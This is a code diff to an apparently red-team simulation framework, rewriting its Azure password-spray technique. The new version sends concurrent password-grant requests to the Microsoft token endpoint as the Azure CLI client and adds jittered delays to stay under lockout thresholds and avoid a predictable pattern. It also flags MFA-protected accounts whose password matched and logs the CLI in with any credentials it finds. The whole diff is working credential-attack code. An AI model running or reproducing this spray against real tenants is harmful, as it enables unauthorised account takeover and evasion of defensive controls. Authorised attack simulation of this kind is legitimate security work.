@@ -1,11 +1,31 @@
 from ..base_technique import BaseTechnique, ExecutionStatus, MitreTechnique, AzureTRMTechnique
 from ..technique_registry import TechniqueRegistry
-from typing import Dict, Any, Tuple
-from core.azure.azure_access import AzureAccess
+from typing import Dict, Any, Tuple, Optional
+from core.azure.azure_access import AzureAccess, az_json_loads
 import subprocess
-import json
 import base64
+import io
 import time
+import random
+import re
+import threading
+import concurrent.futures
+import requests
+
+# Azure CLI public client id, used to authenticate spray attempts the same way 'az login' does
+AZ_CLI_CLIENT_ID = "04b07795-8ddb-461a-bbee-02f9e1bf7b46"
+TOKEN_ENDPOINT = "https://login.microsoftonline.com/common/oauth2/v2.0/token"
+
+# AADSTS error codes returned when the password matched but sign in was still blocked
+_AADSTS_RE = re.compile(rb"AADSTS(\d{5})")
+_MATCHED_ERROR_CODES = {
+    b"50076": "Password matched with username. Authentication failed - Account has MFA."
+}
+
+# Shared session so spray attempts reuse the same connection
+_session = requests.Session()
+# Serializes Azure CLI sign in when concurrent attempts match
+_az_login_lock = threading.Lock()
 
 @TechniqueRegistry.register
 class AzurePasswordSpray(BaseTechnique):
@@ -26,7 +46,7 @@ class AzurePasswordSpray(BaseTechnique):
                 sub_technique_name=None
             )
         ]
-        super().__init__("Password Spray", "Performs a password spray attack against Azure ID using the Azure CLI to authenticate with a specified password against a list of usernames. The technique includes configurable wait times between attempts to avoid triggering account lockouts. It detects successful authentications as well as cases where correct credentials trigger MFA prompts. The technique can be configured to stop at first successful match or continue through the entire username list.", mitre_techniques, azure_trm_technique)
+        super().__init__("Password Spray", "Performs a password spray attack against Azure ID by authenticating as the Azure CLI client with a specified password against a list of usernames. Matched credentials are used to sign in the Azure CLI. The technique attempts multiple usernames concurrently, with jittered wait times before each attempt to avoid triggering account lockouts. It detects successful authentications as well as cases where correct credentials trigger MFA prompts. The technique can be configured to stop at first successful match or continue through the entire username list.", mitre_techniques, azure_trm_technique)
         
     def execute(self, **kwargs: Any) -> Tuple[ExecutionStatus, Dict[str, Any]]:
         self.validate_parameters(kwargs)
@@ -36,6 +56,7 @@ class AzurePasswordSpray(BaseTechnique):
             password: str = kwargs['password']
             wait: int = kwargs.get('wait', 3) # set default wait to 3 seconds
             stop_at_first_match: bool = kwargs.get('stop_at_first_match', True)
+            concurrency: int = kwargs.get('concurrency', 5)
             
             # Input validation
             if password in [None, ""] or username_file in [None, ""]:
@@ -48,19 +69,21 @@ class AzurePasswordSpray(BaseTechnique):
                 wait = 3 # set default wait time
 
             if stop_at_first_match in [None, ""]:
-                wait = True # set default wait time
+                stop_at_first_match = True # set default stop at first match
+
+            if concurrency in [None, ""] or concurrency < 1:
+                concurrency = 5 # set default concurrency
             
             # Get az full execution path
             az_command = AzureAccess().az_command
 
             # Extract usernames from username text file
-            content_string = username_file.split(',')[-1]
-            decoded = base64.b64decode(content_string)
+            content_string = username_file.split(',', 1)[-1]
             try:
-                text = decoded.decode('utf-8')
-                user_list = text.split('\n')
-                # Remove duplicate usernames
-                user_list = list(set(user_list))
+                # Iterate decoded lines without building the full text and split list
+                decoded = io.BytesIO(base64.b64decode(content_string))
+                # Remove blank lines and duplicate usernames while preserving order
+                user_list = list(dict.fromkeys(line.decode('utf-8').strip() for line in decoded if line.strip()))
             except Exception as e:
                 # File decoding failed
                 return ExecutionStatus.FAILURE, {
@@ -70,47 +93,32 @@ class AzurePasswordSpray(BaseTechnique):
 
             # Initialize variable to store password spray results
             spray_results = {}
+            found = threading.Event()
 
-            # Start password spray
-            for user_name in user_list:
-                # Attempt authentication
-                try:
-                    if user_name in [None, ""]:
+            # Start password spray. Each username is attempted once, so concurrent attempts never target the same account
+            with concurrent.futures.ThreadPoolExecutor(max_workers=concurrency) as executor:
+                future_to_user = {
+                    executor.submit(self._try_user, user_name, password, az_command, wait, found, stop_at_first_match): user_name
+                    for user_name in user_list
+                }
+
+                for future in concurrent.futures.as_completed(future_to_user):
+                    attempt = future.result()
+                    if attempt is None:
+                        # Attempt skipped after a match
                         continue
 
-                    raw_response = subprocess.run([az_command, "login", "-u", user_name, "-p", password], capture_output=True)
-                    
-                    output = raw_response.stdout
-                    out_error = raw_response.stderr
-                    
-                    # Checking for failed authentication
-                    if raw_response.returncode == 0:
-                        # If auth successful
-                        struc_output = json.loads(output.decode('utf-8'))
-                        spray_results[user_name] = {"Success" : struc_output}
-
-                        # Return if set to stop at first match
-                        if stop_at_first_match:
-                            return ExecutionStatus.SUCCESS, {
-                                "message": f"Successfully matched username",
-                                "value": spray_results
-                            }
-                    else:
-                        # If auth failed
-                        struc_error = out_error.decode('utf-8')
-                        if "AADSTS50076" in struc_error:
-                            spray_results[user_name] = {"Success" : "Password matched with username. Authentication failed - Account has MFA."}
-                            if stop_at_first_match:
-                                return ExecutionStatus.SUCCESS, {
-                                    "message": f"Successfully matched username",
-                                    "value": spray_results
-                                }
-                        else:
-                            spray_results[user_name] = {"Failed" : struc_error}
-                            raise Exception("Auth failed")
-                except:
-                    # Wait before attempting next username
-                    time.sleep(wait)
+                    user_name, user_result, matched = attempt
+                    spray_results[user_name] = user_result
+
+                    # Return if set to stop at first match
+                    if matched and stop_at_first_match:
+                        found.set()
+                        executor.shutdown(wait=False, cancel_futures=True)
+                        return ExecutionStatus.SUCCESS, {
+                            "message": f"Successfully matched username",
+                            "value": spray_results
+                        }
             
             # Return password spray result
             return ExecutionStatus.SUCCESS, {
@@ -123,10 +131,71 @@ class AzurePasswordSpray(BaseTechnique):
                 "message": "Failed to execute password spray"
             }
 
+    def _try_user(self, user_name: str, password: str, az_command: str, wait: int, found: threading.Event, stop_at_first_match: bool) -> Optional[Tuple[str, Dict[str, Any], bool]]:
+        """Attempt authentication for a single username. Returns None if the attempt was skipped after a match"""
+        if stop_at_first_match and found.is_set():
+            return None
+
+        # Jitter wait between attempts to avoid a predictable request pattern
+        time.sleep(random.uniform(wait * 0.5, wait * 1.5))
+        if stop_at_first_match and found.is_set():
+            return None
+
+        try:
+            attempt = self._attempt_user(user_name, password, az_command)
+        except Exception as e:
+            return user_name, {"Failed" : str(e)}, False
+
+        # Skip remaining attempts only once the match result is ready to be returned
+        if attempt[2] and stop_at_first_match:
+            found.set()
+        return attempt
+
+    def _attempt_user(self, user_name: str, password: str, az_command: str) -> Tuple[str, Dict[str, Any], bool]:
+        """Authenticate a single username and sign in the Azure CLI on a match"""
+        raw_response = _session.post(
+            TOKEN_ENDPOINT,
+            data={
+                "grant_type": "password",
+                "client_id": AZ_CLI_CLIENT_ID,
+                "username": user_name,
+                "password": password,
+                "scope": "https://graph.microsoft.com/.default openid profile offline_access"
+            },
+            timeout=30
+        )
+        
+        # Checking for failed authentication
+        if raw_response.status_code == 200 and "access_token" in raw_response.json():
+            # If auth successful, sign in Azure CLI with matched credentials
+            with _az_login_lock:
+                try:
+                    login_response = subprocess.run([az_command, "login", "-u", user_name, "-p", password], capture_output=True, timeout=60)
+                except (OSError, TypeError, subprocess.SubprocessError):
+                    # az not found, failed to start or timed out. Match is still reported
+                    login_response = None
+
+            struc_output = "Password matched with username. Azure CLI login failed."
+            if login_response is not None and login_response.returncode == 0:
+                try:
+                    struc_output = az_json_loads(login_response.stdout)
+                except ValueError:
+                    pass
+            return user_name, {"Success" : struc_output}, True
+
+        # If auth failed
+        out_error = raw_response.content
+        error_code = _AADSTS_RE.search(out_error)
+        if error_code and error_code.group(1) in _MATCHED_ERROR_CODES:
+            return user_name, {"Success" : _MATCHED_ERROR_CODES[error_code.group(1)]}, True
+
+        return user_name, {"Failed" : out_error.decode('utf-8', errors='replace')}, False
+
     def get_parameters(self) -> Dict[str, Dict[str, Any]]:
         return {
             "username_file": {"type": "str", "required": True, "default": None, "name": "Username File", "input_field_type" : "upload"},
             "password": {"type": "str", "required": True, "default": None, "name": "Password", "input_field_type" : "password"},
             "wait": {"type": "int", "required": False, "default": 3, "name": "Wait (in sec)", "input_field_type" : "number"},
-            "stop_at_first_match": {"type": "bool", "required": False, "default": True, "name": "Stop at First Match", "input_field_type" : "bool"}
+            "stop_at_first_match": {"type": "bool", "required": False, "default": True, "name": "Stop at First Match", "input_field_type" : "bool"},
+            "concurrency": {"type": "int", "required": False, "default": 5, "name": "Concurrent Attempts", "input_field_type" : "number"}
         }
\ No newline at end of file